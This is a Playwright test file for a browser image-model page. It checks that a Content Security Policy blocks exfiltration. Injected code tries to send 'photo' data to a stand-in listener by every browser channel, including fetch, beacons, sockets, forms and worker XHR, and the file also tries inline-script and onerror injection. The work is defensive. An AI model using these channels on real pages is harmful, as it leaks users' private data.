/** Photos never leave the page: whatever runs in it, on its worker or on a thread, reaches its own server alone, and the Hub once the visitor has allowed it. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { before, test } from 'node:test';
import { HOSTS } from '../../pkg/lib/hub/hosts.js';
import { ROOT, answered, openTab, otherSite, startBrowser, startServer } from './harness.mjs';

const PAGE = '/www/?model=/models/vitscope-tiny/';
const HUB = HOSTS.match(/https:\/\/[\w.*-]+/g) ?? [];

/** @type {import('playwright-core').Browser} */
let browser;
let origin = '';
before(async () => {
  [browser, origin] = await Promise.all([startBrowser(), startServer()]);
});

/** Another server, and what it has been asked for: the path alone, each once. */
async function listener() {
  /** @type {Set<string>} */
  const heard = new Set();
  const address = await otherSite((path) => {
    heard.add(path.slice(1).replace(/\?.*/s, ''));
    return { body: '', type: 'text/javascript', headers: { 'access-control-allow-origin': '*' } };
  });
  return { address, heard: () => [...heard].sort() };
}

/** All that a page can send by. @param {string} address */
async function sendFromPage(address) {
  const element = (/** @type {string} */ name, /** @type {Record<string, string>} */ attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
  const ends = [
    fetch(`${address}/fetch`, { method: 'POST', body: 'photo', mode: 'no-cors' }),
    import(`${address}/import`),
    new Promise((resolve) => (new WebSocket(`${address.replace('http', 'ws')}/socket`).onerror = resolve)),
    new Promise((resolve) => (new EventSource(`${address}/events`).onerror = resolve)),
  ];
  navigator.sendBeacon(`${address}/beacon`, 'photo');
  element('img', { src: `${address}/img?photo` });
  element('video', { src: `${address}/video?photo` });
  element('script', { src: `${address}/script?photo` });
  element('link', { rel: 'stylesheet', href: `${address}/style?photo` });
  element('link', { rel: 'prefetch', href: `${address}/prefetch?photo` });
  element('iframe', { src: `${address}/frame?photo` });
  element('object', { data: `${address}/object?photo` });
  document.body.style.backgroundImage = `url(${address}/background?photo)`;
  element('iframe', { name: 'into' });
  element('form', { action: `${address}/form`, method: 'post', target: 'into' });
  document.forms[document.forms.length - 1].submit();
  await Promise.race([Promise.allSettled(ends), new Promise((resolve) => setTimeout(resolve, 3000))]);
  await new Promise((resolve) => setTimeout(resolve, 500));
}
const WAYS = ['background', 'beacon', 'events', 'fetch', 'form', 'frame', 'img', 'import', 'object', 'prefetch', 'script', 'socket', 'style', 'video'];

/** In front of the worker's script, and so of a thread's: sends before the engine has its first message, and says what came of it. @param {string} address */
const sendFromWorker = (address) => `
  self.addEventListener('message', ({ data: { type } }) => {
    const who = type === 'thread' ? 'thread' : 'worker';
    const request = new XMLHttpRequest(); // which ends before a thread enters the engine for good
    try {
      request.open('POST', '${address}/' + who, false);
      request.send('photo');
    } catch {}
    new BroadcastChannel('sent').postMessage(who + (request.status ? ' has sent' : ' has not'));
    if (who === 'thread') return;
    fetch('${address}/worker-fetch', { method: 'POST', body: 'photo' }).catch(() => {});
    import('${address}/worker-import').catch(() => {});
    new WebSocket('${address.replace('http', 'ws')}/worker-socket');
    new EventSource('${address}/worker-events');
  }, { once: true });`;

/**
 * The page with its model, once its worker and a thread have tried.
 * @param {string} address where everything is sent
 * @param {import('playwright-core').BrowserContextOptions} [options]
 */
async function openLeaky(address, options) {
  const tab = await openTab(browser, options);
  const worker = readFileSync(join(ROOT, 'pkg/dist/vitscope/worker.js'), 'utf8');
  await tab.context.route('**/vitscope/worker.js', (route) => route.fulfill({ contentType: 'text/javascript', body: sendFromWorker(address) + worker }));
  await tab.page.addInitScript(() => {
    globalThis.kept = new Set();
    new BroadcastChannel('sent').onmessage = ({ data }) => kept.add(data);
  });
  await tab.page.goto(origin + PAGE);
  await answered(tab.page);
  assert.match(await tab.page.locator('[data-status=threads]').innerText(), /[2-8] threads/, 'there is a thread to try it');
  return { ...tab, said: () => tab.page.evaluate(() => [...kept].sort()) };
}

test('nothing is sent elsewhere, by the page, its worker or a thread', async () => {
  const { address, heard } = await listener();
  const { page, said, close, errors } = await openLeaky(address);
  await page.evaluate(sendFromPage, address);
  assert.deepEqual(await said(), ['thread has not', 'worker has not']);
  assert.deepEqual(heard(), []);
  assert.deepEqual(errors, []);
  await close();
});

test('without the policy all of that would be sent', async () => {
  const { address, heard } = await listener();
  const { page, said, close } = await openLeaky(address, { bypassCSP: true });
  await page.evaluate(sendFromPage, address);
  assert.deepEqual(await said(), ['thread has sent', 'worker has sent']);
  assert.deepEqual(heard(), [...WAYS, 'thread', 'worker', 'worker-events', 'worker-fetch', 'worker-import', 'worker-socket'].sort());
  await close();
});

test('no script gets in from the page, and no worker that the policy would not hold', async () => {
  const { page, close } = await openTab(browser);
  await page.goto(origin + PAGE);
  await answered(page);
  const ran = await page.evaluate(async () => {
    const inline = Object.assign(document.createElement('script'), { textContent: 'globalThis.kept = "inline"' });
    document.head.append(inline);
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.kept = \'handler\'">');
    const worker = await new Promise((resolve) => {
      const worker = new Worker('/pkg/dist/vitscope/worker.js', { type: 'module' });
      worker.onerror = () => resolve('refused');
      setTimeout(resolve, 2000, 'started');
    });
    const base = Object.assign(document.createElement('base'), { href: 'https://example.org/' });
    document.head.append(base);
    return [globalThis.kept, worker, document.baseURI === location.href];
  });
  assert.deepEqual(ran, [undefined, 'refused', true]);
  await close();
});

/** What of these the page can fetch, all of which would answer. @param {import('playwright-core').Page} page @param {string[]} addresses */
const reached = (page, addresses) => page.evaluate(async (addresses) => {
  const ends = await Promise.allSettled(addresses.map((address) => fetch(address)));
  return addresses.filter((_, i) => ends[i].status === 'fulfilled');
}, addresses);

const ELSEWHERE = ['https://example.org/', 'https://huggingface.co.example.org/', 'https://nothuggingface.co/', 'https://hf.co/', 'https://huggingface.co:8443/', 'https://cdn.jsdelivr.net/'];

/** @param {import('playwright-core').Page} page */
const connections = async (page) => /connect-src ([^;]*)/.exec((await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content')) ?? '')?.[1].split(' ');
/** What the page says of the Hub, and what it makes of the visitor's word. @param {import('playwright-core').Page} page @param {'hubAllowed' | 'allowHub' | 'forbidHub'} what */
const ask = (page, what) => page.evaluate(async (what) => (await import(/** @type {any} */ ('/www/policy.js')))[what](), what);

test('the Hub is reached once the visitor has allowed it, by exactly the hosts that the package knows', async () => {
  const hub = HUB.map((host) => `${host.replace('*', 'some-cdn')}/file`);
  assert.equal(hub.length, 3);
  const { page, context, close } = await openTab(browser);
  await context.route(/^https:/, (route) => route.fulfill({ body: '', headers: { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' } }));
  const open = async () => {
    await page.goto(origin + PAGE);
    await answered(page);
  };
  await open();
  assert.equal(await ask(page, 'hubAllowed'), false);
  assert.deepEqual(await connections(page), ["'self'"]);
  assert.deepEqual(await reached(page, [...hub, ...ELSEWHERE]), []);

  for (const [word, allowed] of /** @type {const} */ ([['allowHub', true], ['forbidHub', false]])) {
    const reloaded = page.waitForEvent('load');
    await ask(page, word).catch(() => {}); // the page that was asked is gone
    await reloaded;
    await answered(page);
    assert.equal(await ask(page, 'hubAllowed'), allowed);
    assert.deepEqual(await connections(page), ["'self'", ...(allowed ? HUB : [])]);
    assert.deepEqual(await reached(page, [...hub, ...ELSEWHERE]), allowed ? hub : []);
    if (!allowed) continue;
    await open(); // it is remembered
    assert.deepEqual(await reached(page, hub), hub);
    const picture = await page.evaluate((src) => new Promise((resolve) => Object.assign(new Image(), { src, onload: resolve, onerror: () => resolve('refused') })), 'https://huggingface.co/logo.png');
    assert.equal(picture, 'refused', 'files of models are fetched, and nothing else');
  }
  await close();
});

test('a browser that keeps nothing opens the page without the Hub', async () => {
  const { page, errors, close } = await openTab(browser);
  await page.addInitScript(() => Object.defineProperty(globalThis, 'localStorage', {
    get() {
      throw new DOMException('denied', 'SecurityError');
    },
  }));
  await page.goto(origin + PAGE);
  await answered(page);
  assert.deepEqual([await ask(page, 'hubAllowed'), await ask(page, 'allowHub'), await ask(page, 'forbidHub')], [false, false, false]);
  assert.deepEqual(await connections(page), ["'self'"]);
  assert.deepEqual(errors, []);
  await close();
});
